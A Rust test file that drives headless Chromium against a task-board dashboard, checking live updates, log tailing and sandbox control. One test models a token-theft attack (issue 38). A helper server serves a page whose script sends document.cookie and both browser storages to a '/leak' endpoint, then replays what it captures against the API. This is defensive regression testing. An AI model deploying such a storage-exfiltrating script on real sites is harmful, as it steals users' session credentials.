//! The dashboard in a real browser: Debian's chromium driven through chromium-driver (WebDriver) with fantoccini.
//! It opens the dashboard with the token, sees the tasks it created, blocks one through the page, sees a task the
//! CLI creates appear without a reload within 1 s, watches a worker's log live, stops a sandbox from its page, and
//! takes the guide's screenshot (written to `docs/dashboard.png` when `BERTH_UPDATE_SCREENSHOT=1`). A server on
//! another loopback port the browser visits gets nothing that opens the dashboard (issue 38).

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

use crate::dashboard::{Served, http};
use crate::support::{Home, berth_bin, workspace};

/// chromium-driver on a port of its own, stopped (by its pid) when dropped.
struct Driver {
    child: Child,
    port: u16,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The browser's programs, or `None` (the test is skipped with a note) outside CI; under `CI=true` they must be
/// there (`.ci/run` installs them).
fn driver() -> Option<Driver> {
    let present = |p: &str| std::path::Path::new(p).exists();
    if !present("/usr/bin/chromium") || !present("/usr/bin/chromedriver") {
        let ci = std::env::var("CI").is_ok_and(|v| v == "true" || v == "1");
        assert!(
            !ci,
            "CI=true but chromium or chromedriver is missing: `.ci/run` installs chromium and chromium-driver"
        );
        crate::support::skip(
            "chromium and chromium-driver are not installed (apt-get install chromium chromium-driver)",
        );
        return None;
    }
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let child = Command::new("/usr/bin/chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("chromedriver starts");
    let driver = Driver { child, port };
    crate::support::wait_until("chromedriver to listen", Duration::from_secs(10), || {
        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
    });
    Some(driver)
}

async fn browser(driver: &Driver) -> Client {
    let mut caps = serde_json::Map::new();
    let args = ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1500,900"];
    caps.insert("goog:chromeOptions".into(), json!({"binary": "/usr/bin/chromium", "args": args}));
    ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("a chromium session")
}

/// Waits up to `limit` for `css` to match; how long it took.
async fn appears(c: &Client, css: &str, limit: Duration) -> Duration {
    let start = Instant::now();
    c.wait()
        .at_most(limit)
        .every(Duration::from_millis(20))
        .for_element(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css} did not appear within {limit:?}: {e}"));
    start.elapsed()
}

#[test]
fn dashboard_in_a_real_browser() {
    let Some(driver) = driver() else { return };
    crate::support::require_docker();
    let home = Home::new();
    home.ok(&["profile", "create", "alpha"]);
    let first = home.json(&["kanban", "create", "write the parser", "--assignee", "alpha", "--command", "true"]);
    let second = home.json(&["kanban", "create", "review the parser", "--command", "true"]);
    let (first, second) = (first["id"].as_str().unwrap().to_owned(), second["id"].as_str().unwrap().to_owned());
    // Workers "dispatch now" starts print a few lines slowly, then complete their task.
    let worker = format!(
        "for i in 1 2 3 4 5 6 7 8 9 10; do echo log-line-$i; sleep 0.4; done; {} kanban complete {{task_id}}",
        berth_bin().display()
    );
    let d = Served::start(&home, &[("KANBAN_WORKER_COMMAND", &worker)]);
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(&driver).await;
        c.goto(&d.url()).await.unwrap();
        // The token went into the page's storage (no cookie) and out of the address.
        assert!(!c.current_url().await.unwrap().as_str().contains("token="));
        appears(&c, &format!("section[data-status=ready] #card-{first}"), Duration::from_secs(5)).await;
        appears(&c, &format!("section[data-status=ready] #card-{second}"), Duration::from_secs(5)).await;
        appears(&c, "#live.on", Duration::from_secs(5)).await;

        // Block through the page: the card moves to the blocked column.
        c.find(Locator::Css(&format!("#card-{second} button[data-action=block]")))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        let took = appears(&c, &format!("section[data-status=blocked] #card-{second}"), Duration::from_secs(2)).await;
        eprintln!("blocked through the page: shown after {} ms", took.as_millis());
        assert!(c.find(Locator::Css("#flash.ok")).await.unwrap().text().await.unwrap().contains("blocked"));
        assert_eq!(home.json(&["kanban", "show", &second])["task"]["status"], "blocked");

        // A task the CLI creates appears without a reload within 1 s.
        c.execute("window.__berthMarker = 42; return null;", vec![]).await.unwrap();
        let third = home.json(&["kanban", "create", "made by the CLI", "--command", "true"]);
        let third = third["id"].as_str().unwrap();
        let took = appears(&c, &format!("section[data-status=ready] #card-{third}"), Duration::from_secs(1)).await;
        eprintln!("a task created by the CLI appeared after {} ms", took.as_millis());
        let marker = c.execute("return window.__berthMarker || null;", vec![]).await.unwrap();
        assert_eq!(marker, json!(42), "the page was not reloaded");

        // Dispatch now: the assigned task runs; its page tails the worker's log while it prints.
        c.find(Locator::Id("dispatch")).await.unwrap().click().await.unwrap();
        appears(&c, &format!("section[data-status=running] #card-{first}"), Duration::from_secs(5)).await;
        screenshot(&c).await;
        // Opened without the token in its address: the page's script fetches it with the token it keeps.
        c.goto(&format!("{}/tasks/{first}", d.base)).await.unwrap();
        appears(&c, "#log", Duration::from_secs(5)).await;
        let log = c.find(Locator::Id("log")).await.unwrap();
        let start = Instant::now();
        while !log.text().await.unwrap().contains("log-line-3") {
            assert!(start.elapsed() < Duration::from_secs(5), "the log did not show its lines");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(home.json(&["kanban", "show", &first])["task"]["status"], "running", "seen while it prints");

        // A sandbox stopped from its page: the page says so, and its row shows it stopped.
        let sandbox = home.json(&["sandbox", "ensure", "--task", "in-browser"]);
        let id = sandbox["id"].as_str().unwrap();
        c.goto(&format!("{}/sandboxes", d.base)).await.unwrap();
        let stop = format!("button[data-sandbox='{id}'][data-sandbox-action=stop]");
        c.wait()
            .at_most(Duration::from_secs(10))
            .for_element(Locator::Css(&stop))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        appears(&c, "#flash.ok", Duration::from_secs(15)).await;
        let said = c.find(Locator::Css("#flash")).await.unwrap().text().await.unwrap();
        assert!(said.contains("stopped"), "{said}");
        assert_eq!(home.inspect(id, "{{.State.Status}}"), "exited");
        // The table is fetched again: the row offers remove only.
        let start = Instant::now();
        while c.find(Locator::Css(&stop)).await.is_ok() {
            assert!(start.elapsed() < Duration::from_secs(15), "the stopped sandbox still offers stop");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        c.find(Locator::Css(&format!("button[data-sandbox='{id}'][data-sandbox-action=remove]"))).await.unwrap();
        c.close().await.unwrap();
    });
}

/// The guide's picture (docs/dashboard.md): into `docs/` when asked (`BERTH_UPDATE_SCREENSHOT=1`), else checked and dropped.
async fn screenshot(c: &Client) {
    let png = c.screenshot().await.unwrap();
    assert!(png.starts_with(b"\x89PNG"), "a PNG");
    if std::env::var("BERTH_UPDATE_SCREENSHOT").is_ok_and(|v| v == "1") {
        std::fs::write(workspace().join("docs/dashboard.png"), &png).unwrap();
    }
}

/// A server on another loopback port, as any local user may run: it keeps the head of every request it gets, and
/// answers with a page that sends back what a page of its own origin can read (`document.cookie`, both storages).
fn other_server() -> (u16, Arc<Mutex<String>>, std::sync::mpsc::Receiver<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(String::new()));
    let keep = Arc::clone(&seen);
    let (reported, report) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let mut head = String::new();
            let mut r = BufReader::new(conn.try_clone().unwrap());
            while r.read_line(&mut head).is_ok_and(|n| n > 2) {}
            keep.lock().unwrap().push_str(&head);
            if head.starts_with("GET /leak") {
                let _ = reported.send(());
            }
            let page = "<!doctype html><title>other</title><script>fetch('/leak?' + encodeURIComponent(\
                        document.cookie + ' ' + JSON.stringify(localStorage) + ' ' + JSON.stringify(sessionStorage)))\
                        </script>";
            let _ = write!(
                conn,
                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    (port, seen, report)
}

/// The attack of issue 38: a browser logged in to the dashboard visits a page on another port of 127.0.0.1. Before,
/// the dashboard's cookie went along (cookies are per host, not per port) and, replayed, opened `GET /api/boards`.
/// Now nothing the other server receives or its page can read opens it: every cookie it was sent, replayed, and every
/// 32-digit hex string it saw, tried as the token in each way the dashboard takes one, answer 401. The dashboard
/// opened again without the token in its address still works (its script keeps the token).
#[test]
fn a_server_on_another_loopback_port_gets_nothing_that_opens_the_dashboard() {
    let Some(driver) = driver() else { return };
    let home = Home::new();
    let d = Served::start(&home, &[]);
    let (other, seen, report) = other_server();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let c = browser(&driver).await;
        c.goto(&d.url()).await.unwrap();
        appears(&c, "#live.on", Duration::from_secs(5)).await;
        c.goto(&format!("http://127.0.0.1:{other}/")).await.unwrap();
        report.recv_timeout(Duration::from_secs(10)).expect("the other page reports what it can read");
        // Back to the dashboard without the token in the address: the page is shown, live.
        c.goto(&d.base).await.unwrap();
        appears(&c, "#live.on", Duration::from_secs(5)).await;
        c.close().await.unwrap();
    });
    let seen = seen.lock().unwrap().clone();
    let port = d.base.rsplit(':').next().unwrap();
    let opens =
        |headers: &[(&str, &str)], query: &str| http(&d.base, "GET", &format!("/api/boards{query}"), headers, "").0;
    for line in seen.lines().filter(|l| l.to_ascii_lowercase().starts_with("cookie:")) {
        let cookie = line.split_once(':').unwrap().1.trim();
        assert_ne!(
            opens(&[("cookie", cookie)], ""),
            200,
            "a cookie sent to port {other} opens the dashboard: {cookie}"
        );
    }
    let hex: Vec<char> = seen.chars().collect();
    let mut candidates: Vec<String> = hex.windows(32).map(|w| w.iter().collect::<String>()).collect();
    candidates.retain(|w| w.chars().all(|c| c.is_ascii_hexdigit()));
    candidates.dedup();
    for t in &candidates {
        let bearer = format!("Bearer {t}");
        let cookie = format!("berth_token_{port}={t}");
        assert_ne!(opens(&[("authorization", &bearer)], ""), 200, "{t} seen by port {other} is the token");
        assert_ne!(opens(&[("cookie", &cookie)], ""), 200, "{t} seen by port {other} opens as a cookie");
        assert_ne!(opens(&[], &format!("?token={t}")), 200, "{t} seen by port {other} opens in the URL");
    }
    assert!(!seen.contains(&d.token), "the other server saw the token:\n{seen}");
}
